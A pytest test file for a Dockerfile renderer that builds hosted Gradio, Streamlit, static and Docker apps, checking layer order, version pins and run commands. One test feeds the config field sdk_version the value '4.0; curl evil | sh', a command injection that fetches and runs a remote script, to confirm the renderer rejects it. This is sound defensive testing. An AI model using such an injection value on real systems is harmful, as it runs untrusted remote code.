from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from builder import buildpacks
from builder.buildpacks.base import RenderContext, RepoFiles
from builder.errors import BuildFailure
from builder.spaceconfig import SpaceConfig, load_space_config

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "spaces"


def files(*paths: str, app: str = "") -> RepoFiles:
    return RepoFiles(paths=frozenset(paths), texts={"app.py": app} if app else {})


@pytest.mark.parametrize(
    ("repo", "sdk"),
    [
        (files("Dockerfile", "app.py", "index.html"), "docker"),
        (files("app.py", "index.html", app="import gradio as gr\n"), "gradio"),
        (files("app.py", app="import streamlit as st\n"), "streamlit"),
        (files("index.html", "style.css"), "static"),
    ],
)
def test_chain_detects_in_order(repo: RepoFiles, sdk: str) -> None:
    pack = buildpacks.detect(repo)
    assert pack is not None and pack.sdk == sdk


def test_chain_order_and_nothing_detected() -> None:
    assert [p.sdk for p in buildpacks.CHAIN] == ["docker", "gradio", "streamlit", "static"]
    assert buildpacks.detect(files("notes.txt")) is None


def test_scan_skips_git(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "HEAD").write_text("ref")
    (tmp_path / "app.py").write_text("import streamlit\n")
    scanned = RepoFiles.scan(tmp_path)
    assert scanned.paths == frozenset({"app.py"}) and "streamlit" in scanned.texts["app.py"]


def index_of(lines: list[str], prefix: str) -> int:
    return next(i for i, line in enumerate(lines) if line.startswith(prefix))


RELEASE = datetime(2024, 9, 10, 12, 0, tzinfo=UTC)


def test_gradio_render_is_layered_for_cache_and_pins_the_sdk_last() -> None:
    config = SpaceConfig(sdk="gradio", sdk_version="4.44.1", python_version="3.11")
    repo = files("app.py", "requirements.txt", "pre-requirements.txt", "packages.txt")
    ctx = RenderContext(files=repo, build_arg_names=("GREETING",), sdk_release=RELEASE)
    lines = buildpacks.for_config(config).render(config, ctx).splitlines()
    order = [
        index_of(lines, "FROM spaceport/base-sdk:3.11"),
        index_of(lines, "COPY packages.txt"),
        index_of(lines, "USER 1000"),
        index_of(lines, "RUN uv pip install datasets huggingface_hub"),
        index_of(lines, "COPY --chown=1000:1000 pre-requirements.txt"),
        index_of(lines, "RUN uv pip install -r pre-requirements.txt"),
        index_of(lines, "COPY --chown=1000:1000 requirements.txt"),
        index_of(lines, "RUN uv pip install -r requirements.txt"),
        index_of(lines, "RUN uv pip install 'gradio[oauth]==4.44.1'"),
        index_of(lines, "ARG GREETING"),
        index_of(lines, "COPY --chown=1000:1000 . /home/user/app"),
        index_of(lines, "LABEL"),
    ]
    assert order == sorted(order)
    assert lines[-1].startswith("LABEL")
    sdk_step = lines[order[8]]
    assert "'uvicorn>=0.14.0' spaces 'fastapi<0.113.0'" in sdk_step
    assert "--constraint /home/user/.spaceport/constraints.txt --exclude-newer 2024-09-11T12:00:00Z" in sdk_step
    retry = lines[order[8] + 1]
    assert retry.startswith(" || { echo") and "--exclude-newer" not in retry and "'gradio[oauth]==4.44.1'" in retry
    text = "\n".join(lines)
    assert "printf '%s\\n' 'huggingface_hub<1' 'fastapi<0.113' 'numpy<2' 'pydantic<2.11' > /home/user/.spaceport/constraints.txt" in text
    assert "the sdk_version pin is installed last, so it wins over requirements.txt" in text
    env = lines[index_of(lines, "ENV ")]
    for item in ("HOME=/home/user", "SYSTEM=spaces", "GRADIO_SERVER_NAME=0.0.0.0", "GRADIO_SERVER_PORT=7860", "PYTHONUNBUFFERED=1"):
        assert item in env
    assert "PROXY" not in text.upper().replace("PROXY_", "")  # no proxy variable is ever baked in
    assert "SPACE_ID" not in text  # SPACE_* come from the runtime
    assert "WORKDIR /home/user/app" in lines
    assert 'CMD ["python", "app.py"]' in lines


def test_gradio_without_requirements_installs_unpinned_sdk_without_date() -> None:
    config = SpaceConfig(sdk="gradio")
    text = buildpacks.for_config(config).render(config, RenderContext(files=files("app.py")))
    assert "RUN uv pip install 'gradio[oauth]' 'uvicorn>=0.14.0' spaces\n" in text
    assert "--exclude-newer" not in text and "--constraint" not in text
    assert "packages.txt" not in text and "requirements.txt /home" not in text


def test_render_quotes_what_the_owner_controls() -> None:
    """sdk_version lands in a RUN line: anything but a version number is a CONFIG_ERROR, never shell."""
    config = SpaceConfig(sdk="gradio", sdk_version="4.0; curl evil | sh")
    with pytest.raises(BuildFailure) as failure:
        buildpacks.for_config(config).render(config, RenderContext(files=files("app.py")))
    assert failure.value.stage == "CONFIG_ERROR" and "sdk_version" in failure.value.message


def test_old_gradio_renders_without_oauth_extra_and_with_setuptools() -> None:
    config = SpaceConfig(sdk="gradio", sdk_version="3.0.17", python_version="3.11")
    ctx = RenderContext(files=files("app.py", "requirements.txt"), sdk_release=datetime(2022, 5, 1, tzinfo=UTC))
    text = buildpacks.for_config(config).render(config, ctx)
    assert "RUN uv pip install gradio==3.0.17 'uvicorn>=0.14.0' 'setuptools<81'" in text
    assert "--exclude-newer 2022-11-15T00:00:00Z" in text  # no earlier than Python 3.11's wheels


def test_streamlit_render_headless_and_iframe_friendly() -> None:
    config = load_space_config(FIXTURES / "streamlit")
    text = buildpacks.for_config(config).render(config, RenderContext(files=RepoFiles.scan(FIXTURES / "streamlit")))
    cmd = next(line for line in text.splitlines() if line.startswith("CMD"))
    for flag in ('"--server.headless", "true"', '"--server.enableXsrfProtection", "false"', '"--server.enableCORS", "false"'):
        assert flag in cmd
    assert "STREAMLIT_SERVER_PORT=7860" in text and "STREAMLIT_SERVER_ADDRESS=0.0.0.0" in text


def test_static_render_serves_directory_without_pip() -> None:
    config = load_space_config(FIXTURES / "static")
    text = buildpacks.for_config(config).render(config, RenderContext(files=RepoFiles.scan(FIXTURES / "static")))
    assert "http.server" in text and "pip install" not in text
    assert text.startswith("FROM python:3.10-slim\n") and "SYSTEM=spaces" in text  # the hosted default python_version, slim: only the interpreter is needed


def test_docker_render_is_the_users_dockerfile() -> None:
    config = load_space_config(FIXTURES / "docker")
    user = (FIXTURES / "docker" / "Dockerfile").read_text()
    ctx = RenderContext(files=RepoFiles.scan(FIXTURES / "docker"), dockerfile=user)
    assert buildpacks.for_config(config).render(config, ctx) == user
